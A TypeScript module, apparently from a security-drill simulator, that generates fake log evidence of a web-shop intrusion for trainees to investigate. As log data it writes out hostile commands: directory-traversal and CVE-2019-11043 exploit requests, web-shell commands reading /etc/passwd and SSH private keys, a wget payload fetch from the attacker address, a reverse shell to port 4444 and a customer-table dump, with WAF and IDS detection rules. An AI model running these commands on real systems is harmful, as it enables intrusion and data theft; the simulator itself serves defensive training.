/*
 * DEPRECATED: the first wave's technique-keyed attack rendering, kept only for attacker states
 * that declare no `evidence:` yet (scenarios not rewritten on decision 0800). It renders nothing
 * for a state with evidence; delete this file once every shipped scenario has evidence.
 */
import type { CompiledScenario, TraceEntry } from '../engine/index.js';
import type { AttackEvents, DrillView } from './drillView.js';
import { firewallLine, mysqlGeneral } from './formats/host.js';
import { eveAlert, eveFlow } from './formats/security.js';
import type { Entry } from './entry.js';
import { execEntries, sshEntries } from './hostEvents.js';
import type { HttpRequest } from './http.js';
import { flowId } from './ids.js';
import { between, int, keyed, pick, type Rand } from './random.js';
import type { Host } from './topology.js';
import type { World } from './world.js';

const NIKTO_UA = 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)';
const NIKTO_PATHS = [
  '/phpinfo.php',
  '/info.php',
  '/test.php',
  '/admin/',
  '/index.php?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000',
  '/cgi-bin/php',
  '/phpMyAdmin/',
  '/config.php',
  '/.htaccess',
  '/server-info',
  '/backup/',
  '/index.php?page=../../../../etc/passwd',
];
const EXPLOIT_UA = 'Go-http-client/1.1';
const SHELL_UA = 'Mozilla/5.0';
const SHELL_PATH = '/media/static/thumb.php';
const SHELL_COMMANDS = [
  'ls -la /var/www/shop',
  'cat /etc/passwd',
  'ps aux',
  'find / -name id_rsa 2>/dev/null',
  'cat /home/svc-shop/.ssh/id_rsa',
  'netstat -tnp',
  'cat /var/www/shop/config/db.php',
];

/** Time-ordered facts the generators consult: when was the address blocked, a host isolated... */
class Defences {
  private readonly blocked: number;
  private readonly wafRuleAt: number;
  private readonly lockdowns: Array<[number, number]> = [];
  private readonly isolated = new Map<string, number>();
  constructor(compiled: CompiledScenario, trace: readonly TraceEntry[]) {
    let blocked = Infinity;
    let waf = Infinity;
    let lockStart: number | undefined;
    for (const e of trace) {
      if (e.type === 'action.done') {
        const action = compiled.actions.get(e.request.do);
        if (action?.kind === 'block-ip') blocked = Math.min(blocked, e.t);
        if (action?.kind === 'enable-waf-rule') waf = Math.min(waf, e.t);
        if (
          action?.kind === 'isolate-host' &&
          e.request.target &&
          !this.isolated.has(e.request.target)
        )
          this.isolated.set(e.request.target, e.t);
      }
      if (e.type === 'traffic.changed') {
        if (e.to === 'lockdown') lockStart = e.t;
        else if (lockStart !== undefined) {
          this.lockdowns.push([lockStart, e.t]);
          lockStart = undefined;
        }
      }
    }
    if (lockStart !== undefined) this.lockdowns.push([lockStart, Infinity]);
    this.blocked = blocked;
    this.wafRuleAt = waf;
  }
  droppedAtFw(t: number): boolean {
    return t >= this.blocked || this.lockdowns.some(([a, b]) => t >= a && t < b);
  }
  wafBlocks(t: number): boolean {
    return t >= this.wafRuleAt;
  }
  /** The host can still act/be reached at t. */
  up(host: string, t: number): boolean {
    return t < (this.isolated.get(host) ?? Infinity);
  }
}

export function legacyAttackEvents(
  world: World,
  compiled: CompiledScenario,
  drill: DrillView,
): AttackEvents {
  const ctx = drill.context;
  const ip = ctx.attackerIp;
  const defences = new Defences(compiled, drill.trace);
  const end = ctx.ended?.at ?? Math.max(ctx.now, drill.now ?? 0);
  const entered = drill.trace.filter(
    (e): e is Extract<TraceEntry, { type: 'attacker.entered' }> => e.type === 'attacker.entered',
  );
  const legacy = (id: string) => (compiled.states.get(id)?.evidence.length ?? 0) === 0;
  const out: AttackEvents = { conns: [], lines: new Map() };
  const push = (component: string, source: string, entries: Entry[]) => {
    const key = `${component}/${source}`;
    const list = out.lines.get(key) ?? [];
    for (const e of entries) if (e.t < end && defences.up(component, e.t)) list.push(e);
    out.lines.set(key, list);
  };
  const lbs = Math.max(world.balancers.length, 1);
  let foothold: Host | undefined;
  let connSeq = 0;

  const conn = (r: Rand, t: number, fe: number, ua: string, reqs: HttpRequest[]): void => {
    const dropped = defences.droppedAtFw(t);
    const feHost = world.frontEnds[fe];
    if (feHost && !defences.up(feHost.id, t)) return;
    out.conns.push({
      id: `a${connSeq++}.${t}`,
      t,
      client: ip,
      port: between(r, 32_768, 60_999),
      ua,
      kind: 'attack',
      fe,
      lb: int(r, lbs),
      reqs: dropped ? reqs.slice(0, 1) : reqs,
      malicious: true,
      ...(dropped ? { droppedAtFw: true } : {}),
    });
  };
  /** One command run through the web server (RCE or web shell): the request and the exec. */
  const webCommand = (r: Rand, t: number, fe: Host, command: string, via: 'rce' | 'shell') => {
    if (t >= end) return;
    const feIndex = world.frontEnds.indexOf(fe);
    const path =
      via === 'rce'
        ? `/index.php?a=${encodeURIComponent(`/bin/sh -c '${command}'`).replace(/%20/g, '+')}`
        : SHELL_PATH;
    const blocked = via === 'rce' && defences.wafBlocks(t);
    conn(r, t, feIndex, via === 'rce' ? EXPLOIT_UA : SHELL_UA, [
      {
        t,
        method: via === 'rce' ? 'GET' : 'POST',
        path,
        status: blocked ? 403 : 200,
        bytes: blocked ? 548 : between(r, 31, 2_400),
        referer: '-',
        upstreamMs: between(r, 20, 300),
        ...(via === 'rce'
          ? {
              waf: {
                score: blocked ? 8 : 3,
                blocked,
                rules: [
                  {
                    id: blocked ? '1000100' : '932150',
                    msg: blocked
                      ? 'PHP-FPM path info newline (CVE-2019-11043)'
                      : 'Remote Command Execution: Direct Unix Command Execution',
                    file: blocked ? 'LOCAL-RULES.conf' : 'REQUEST-932-APPLICATION-ATTACK-RCE.conf',
                    data: `Matched Data: /bin/sh found within ARGS:a: /bin/sh -c '${command}'`,
                  },
                ],
              },
            }
          : {}),
      },
    ]);
    if (blocked || defences.droppedAtFw(t)) return;
    const ppid = 2_000 + between(r, 0, 50_000);
    push(fe.id, 'auditd', [
      ...execEntries(
        world,
        fe,
        { t: t + 8, user: 'nginx', ppid, argv: ['sh', '-c', command], exe: '/usr/bin/bash' },
        true,
      ),
      ...execEntries(
        world,
        fe,
        {
          t: t + 10,
          user: 'nginx',
          ppid: ppid + 1,
          argv: command.split(' ').filter((a) => !a.startsWith('2>')),
          exe: `/usr/bin/${command.split(' ')[0]}`,
        },
        true,
      ),
    ]);
  };

  entered.forEach((entry, i) => {
    const state = compiled.states.get(entry.state);
    if (!state) return;
    if (!legacy(entry.state)) {
      for (const c of entry.compromises) {
        const h = world.topology.host(c);
        if (h) foothold = h;
      }
      return;
    }
    const t0 = entry.t;
    const stateEnd = Math.min(entered[i + 1]?.t ?? Infinity, end);
    const r = keyed(ctx.seed, 'attack', entry.state, i);
    const compromisedFe = entry.compromises
      .map((c) => world.topology.host(c))
      .find((h) => h?.kind === 'web-server');
    const targetFe =
      compromisedFe ??
      (foothold?.kind === 'web-server' ? foothold : undefined) ??
      world.frontEnds[0];
    const techniques = new Set(state.techniques.map((t) => t.split('.')[0]));

    if (techniques.has('T1595') && world.frontEnds.length) {
      // Nikto against the shop: the WAF blocks the scanner's user agent, the IPS names it.
      for (let k = 0; k < 6; k++) {
        const t = t0 + 60_000 + k * 25_000;
        if (t >= stateEnd) break;
        const reqs: HttpRequest[] = NIKTO_PATHS.map((path, j) => ({
          t: t + j * 300,
          method: 'GET',
          path,
          status: 403,
          bytes: 548,
          referer: '-',
          upstreamMs: 0,
          waf: {
            score: 5,
            blocked: true,
            rules: [
              {
                id: '913100',
                msg: 'Found User-Agent associated with security scanner',
                file: 'REQUEST-913-SCANNER-DETECTION.conf',
                data: 'Matched Data: nikto found within REQUEST_HEADERS:User-Agent: mozilla/5.00 (nikto/2.1.6) (evasions:none) (test:000003)',
              },
            ],
          },
          ...(j === 0
            ? {
                ids: {
                  sid: 2002677,
                  signature: 'ET SCAN Nikto Web App Scan in Progress',
                  category: 'Web Application Attack',
                  severity: 2,
                },
              }
            : {}),
        }));
        conn(r, t, int(r, world.frontEnds.length), NIKTO_UA, reqs);
      }
    }

    if (techniques.has('T1190') && targetFe) {
      // phuip-fpizdam (CVE-2019-11043): path-info newline requests of growing length, PHP-FPM
      // workers crash, then the payload lets any query run a command.
      const feIndex = world.frontEnds.indexOf(targetFe);
      const reqs: HttpRequest[] = [];
      for (let k = 0; k < 24; k++) {
        const t = t0 + k * 700;
        const blocked = defences.wafBlocks(t);
        const crash = !blocked && k % 3 === 1;
        reqs.push({
          t,
          method: 'GET',
          path: `/index.php/PHP%0Ais_the_shittiest_lang.php?${'Q'.repeat(1_700 + k * 10)}`,
          status: blocked ? 403 : crash ? 502 : 404,
          bytes: blocked ? 548 : crash ? 157 : 3_650,
          referer: '-',
          upstreamMs: crash ? between(r, 5, 40) : between(r, 1, 10),
          crash,
          waf: blocked
            ? {
                score: 8,
                blocked: true,
                rules: [
                  {
                    id: '1000100',
                    msg: 'PHP-FPM path info newline (CVE-2019-11043)',
                    file: 'LOCAL-RULES.conf',
                    data: 'Matched Data: %0a found within REQUEST_FILENAME',
                  },
                ],
              }
            : {
                score: 3,
                blocked: false,
                rules: [
                  {
                    id: '921151',
                    msg: 'HTTP Header Injection Attack via payload (CR/LF detected)',
                    file: 'REQUEST-921-PROTOCOL-ATTACK.conf',
                    data: 'Matched Data: \\x0a found within REQUEST_FILENAME: /index.php/PHP\\x0ais_the_shittiest_lang.php',
                  },
                ],
              },
          ...(k === 0
            ? {
                ids: {
                  sid: 9100001,
                  signature:
                    'LOCAL WEB_SERVER PHP-FPM path_info newline exploit attempt (CVE-2019-11043)',
                  category: 'Attempted Administrator Privilege Gain',
                  severity: 1,
                },
              }
            : {}),
        });
      }
      conn(r, t0, feIndex, EXPLOIT_UA, reqs);
      const wget = `wget -q http://${ip}/x.png -O /tmp/x.png`;
      [
        ['id', 30_000],
        ['uname -a', 45_000],
        ['id', 60_000],
        [wget, 240_000],
      ].forEach(([command, after]) => {
        if (t0 + Number(after) < stateEnd)
          webCommand(r, t0 + Number(after), targetFe, String(command), 'rce');
      });
    }

    if (techniques.has('T1505') && targetFe) {
      webCommand(
        r,
        t0 + 30_000,
        targetFe,
        `cp /tmp/x.png /var/www/shop/public${SHELL_PATH}`,
        'rce',
      );
      let t = t0 + 180_000;
      while (t < stateEnd) {
        webCommand(r, t, targetFe, pick(r, SHELL_COMMANDS), 'shell');
        t += between(r, 180_000, 420_000);
      }
      // The reverse shell the IPS sees leaving the front end.
      const tr = t0 + 540_000;
      if (tr < stateEnd && defences.up(targetFe.id, tr)) {
        const f = {
          flowId: flowId(`rev${tr}`),
          src: targetFe.ip,
          sport: between(r, 40_000, 60_000),
          dst: ip,
          dport: 4444,
        };
        push(world.topology.oneWithRole('ids')?.id ?? '', 'eve', [
          {
            t: tr,
            text: eveAlert(world.epoch0 + tr, 412, f, {
              sid: 9100010,
              signature: 'LOCAL POLICY Reverse shell outbound to port 4444',
              category: 'Potentially Bad Traffic',
              severity: 1,
            }),
            malicious: true,
          },
        ]);
        const fw = world.topology.oneWithRole('edge-firewall');
        if (fw)
          push(fw.id, 'firewall', [
            {
              t: tr,
              text: firewallLine(world.epoch0 + tr, fw.hostname, 'ACCEPT', 'dmz-out', {
                in: 'eth1',
                out: 'eth0',
                src: targetFe.ip,
                dst: ip,
                spt: f.sport,
                dpt: 4444,
              }),
              malicious: true,
            },
          ]);
      }
    }

    const newHost = entry.compromises
      .map((c) => world.topology.host(c))
      .find((h) => h && h.kind !== 'web-server');
    if (techniques.has('T1021') && newHost && foothold) {
      const t = t0 + 60_000;
      const commands = [
        { after: 20_000, argv: ['id'], exe: '/usr/bin/id' },
        { after: 45_000, argv: ['sudo', '-l'], exe: '/usr/bin/sudo' },
        ...(techniques.has('T1548')
          ? [{ after: 80_000, argv: ['/bin/bash'], exe: '/usr/bin/bash', sudo: true }]
          : []),
      ];
      const session = sshEntries(
        world,
        newHost,
        {
          t,
          user: 'svc-shop',
          from: foothold.ip,
          port: between(r, 40_000, 60_000),
          method: 'publickey',
          commands,
          length: Math.max(stateEnd - t - 1, 120_000),
        },
        true,
      );
      push(newHost.id, 'auth', session.auth);
      push(newHost.id, 'auditd', session.audit);
      const inner = world.topology.oneWithRole('inner-firewall');
      if (inner)
        push(inner.id, 'firewall', [
          {
            t: t - 200,
            text: firewallLine(world.epoch0 + t - 200, inner.hostname, 'ACCEPT', 'fe-to-be-admin', {
              in: 'eth1',
              out: 'eth2',
              src: foothold.ip,
              dst: newHost.ip,
              spt: between(r, 40_000, 60_000),
              dpt: 22,
            }),
            malicious: true,
          },
        ]);
    }

    if (techniques.has('T1005') && foothold) {
      const db = world.topology.hosts.find(
        (h) =>
          h.kind === 'database' &&
          world.architecture.components
            .find((c) => c.id === h.id)
            ?.data.some((d) => entry.data.includes(d)),
      );
      if (db) {
        let t = t0 + 90_000;
        let k = 0;
        while (t < stateEnd && k < 40) {
          const thread = 900_000 + k;
          const source = foothold;
          push(
            foothold.id,
            'auditd',
            execEntries(
              world,
              foothold,
              {
                t: t - 500,
                user: 'root',
                loginUser: 'svc-shop',
                session: 4242,
                tty: 'pts0',
                ppid: 3_100,
                argv: ['mysql', '-h', db.ip, '-u', 'shop', 'shop', '-e', 'SELECT * FROM customers'],
                exe: '/usr/bin/mysql',
              },
              true,
            ),
          );
          push(
            db.id,
            'mysql-general',
            [
              `Connect\tshop@${source.ip} on shop using TCP/IP`,
              `Query\tSELECT * FROM customers LIMIT ${k * 50_000}, 50000`,
              'Quit\t',
            ].map((line, j) => {
              const [command = '', argument = ''] = line.split('\t');
              return {
                t: t + j * 900,
                text: mysqlGeneral(world.epoch0 + t + j * 900, 17 * j, thread, command, argument),
                malicious: true,
              };
            }),
          );
          t += between(r, 30_000, 90_000);
          k++;
        }
      }
    }

    if (techniques.has('T1041')) {
      const fe = foothold?.kind === 'web-server' ? foothold : targetFe;
      if (fe) {
        const t = t0 + 120_000;
        const f = {
          flowId: flowId(`exfil${t}`),
          src: fe.ip,
          sport: between(r, 40_000, 60_000),
          dst: ip,
          dport: 443,
        };
        const done = Math.min(t + 1_800_000, stateEnd - 1);
        if (done > t) {
          push(world.topology.oneWithRole('ids')?.id ?? '', 'eve', [
            {
              t: t + 60_000,
              text: eveAlert(world.epoch0 + t + 60_000, 77, f, {
                sid: 9100020,
                signature: 'LOCAL POLICY Large outbound transfer from a DMZ web server',
                category: 'Potential Corporate Privacy Violation',
                severity: 1,
              }),
              malicious: true,
            },
            {
              t: done,
              text: eveFlow(world.epoch0 + done, 901, f, {
                pktsToServer: 1_520_000,
                pktsToClient: 380_000,
                bytesToServer: 2_147_483_648,
                bytesToClient: 21_000_000,
                startMs: world.epoch0 + t,
                alerted: true,
                appProto: 'tls',
                state: 'closed',
              }),
              malicious: true,
            },
          ]);
          const fw = world.topology.oneWithRole('edge-firewall');
          if (fw)
            push(fw.id, 'firewall', [
              {
                t,
                text: firewallLine(world.epoch0 + t, fw.hostname, 'ACCEPT', 'dmz-out', {
                  in: 'eth1',
                  out: 'eth0',
                  src: fe.ip,
                  dst: ip,
                  spt: f.sport,
                  dpt: 443,
                }),
                malicious: true,
              },
            ]);
        }
      }
    }

    for (const c of entry.compromises) {
      const h = world.topology.host(c);
      if (h) foothold = h;
    }
  });
  out.conns.forEach((c) => (c.reqs = c.reqs.filter((q) => q.t < end)));
  out.conns = out.conns.filter((c) => c.reqs.length > 0 && c.t < end);
  return out;
}
